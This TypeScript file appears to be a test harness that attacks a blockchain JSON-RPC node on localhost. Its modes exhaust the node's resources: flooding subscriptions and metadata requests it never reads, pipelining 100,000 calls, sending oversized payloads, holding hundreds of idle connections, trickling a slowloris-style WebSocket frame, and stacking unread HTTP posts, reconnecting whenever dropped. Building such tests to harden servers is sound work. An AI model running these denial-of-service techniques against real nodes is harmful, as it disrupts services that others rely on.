import { connect, type Socket } from 'node:net';
import { setTimeout } from 'node:timers/promises';
import { WebSocket } from 'ws';

/**
 * A process that does to a node what no honest client does, until it is killed: `node rpc-attacker.ts PORT MODE`. Says "begun" once it is
 * under way.
 */
const [, , port = '', mode = ''] = process.argv;

const MIB = 2 ** 20;
/** Until a connection that was dropped is opened again: the kernel's own queue is not what is attacked. */
const AGAIN_MS = 500;
const request = (id: number, method: string, params: readonly unknown[] = []): string =>
  JSON.stringify({ jsonrpc: '2.0', id, method, params });
const METADATA = request(1, 'state_getMetadata');

/** Resolves with a connection, or undefined where the node has no place for one. */
function open(): Promise<WebSocket | undefined> {
  const socket = new WebSocket(`ws://127.0.0.1:${port}`, { perMessageDeflate: false });
  return new Promise((resolve) => {
    socket.once('open', () => resolve(socket));
    socket.on('error', () => resolve(undefined));
  });
}

/** Does it on so many connections, and again on a new one wherever the node drops one. */
function onMany(count: number, attack: (socket: WebSocket) => Promise<void> | void): void {
  for (let index = 0; index < count; index++) void again(attack);
}

async function again(attack: (socket: WebSocket) => Promise<void> | void): Promise<never> {
  for (;;) {
    const socket = await open();
    if (socket) {
      const closed = new Promise((resolve) => void socket.once('close', resolve));
      await attack(socket);
      await closed;
    }
    await setTimeout(AGAIN_MS);
  }
}

/** As much as the socket takes, for as long as it is open. */
async function pour(socket: WebSocket, text: string): Promise<void> {
  while (socket.readyState === WebSocket.OPEN) {
    if (socket.bufferedAmount < 4 * MIB) socket.send(text);
    else await setTimeout(5);
  }
}

const STREAMS = ['chain_subscribeAllHeads', 'chain_subscribeNewHeads', 'chain_subscribeFinalizedHeads'];

const ATTACKS: Readonly<Record<string, () => void>> = {
  /** Follows everything, asks for the biggest answers, and reads nothing. */
  deaf: () =>
    onMany(48, async (socket) => {
      socket.pause();
      for (let id = 0; id < 4; id++) socket.send(request(id, 'chainHead_v1_follow', [true]));
      for (let id = 0; id < 1020; id++) socket.send(request(id, STREAMS[id % STREAMS.length]!));
      await pour(socket, METADATA);
    }),
  /** More requests than anybody has a use for, at once. */
  pipeline: () =>
    onMany(8, (socket) => {
      for (let id = 0; id < 100_000; id++) socket.send(request(id, 'system_name'));
      socket.pause();
    }),
  /** Requests as long as they may be. */
  long: () =>
    onMany(48, (socket) => pour(socket, request(1, 'state_getStorage', [`0x${'ab'.repeat(1.9 * MIB)}`]))),
  /** Every place taken, and nothing said. */
  idle: () => onMany(400, () => undefined),
  /** Almost all of a long message, and then a byte from time to time. */
  slow: () =>
    onMany(200, async (socket) => {
      const raw = (socket as unknown as { _socket: Socket })._socket;
      const header = Buffer.alloc(14);
      header.writeUInt16BE(0x81ff);
      header.writeBigUInt64BE(BigInt(8 * MIB - 1), 2);
      raw.write(header);
      raw.write(Buffer.alloc(7 * MIB));
      while (socket.readyState === WebSocket.OPEN) {
        await setTimeout(200);
        raw.write('x');
      }
    }),
  /** By HTTP: the biggest answers, one behind the other, none of them read. */
  posts: () => {
    const post = `POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: ${METADATA.length}\r\n\r\n${METADATA}`;
    const one = (): void => {
      const socket = connect(Number(port), '127.0.0.1');
      socket.on('error', () => undefined);
      socket.on('connect', () => socket.pause().write(post.repeat(200)));
      socket.on('close', () => void setTimeout(AGAIN_MS).then(one));
    };
    for (let index = 0; index < 200; index++) one();
  },
};

ATTACKS[mode]?.();
process.stdout.write('begun\n');
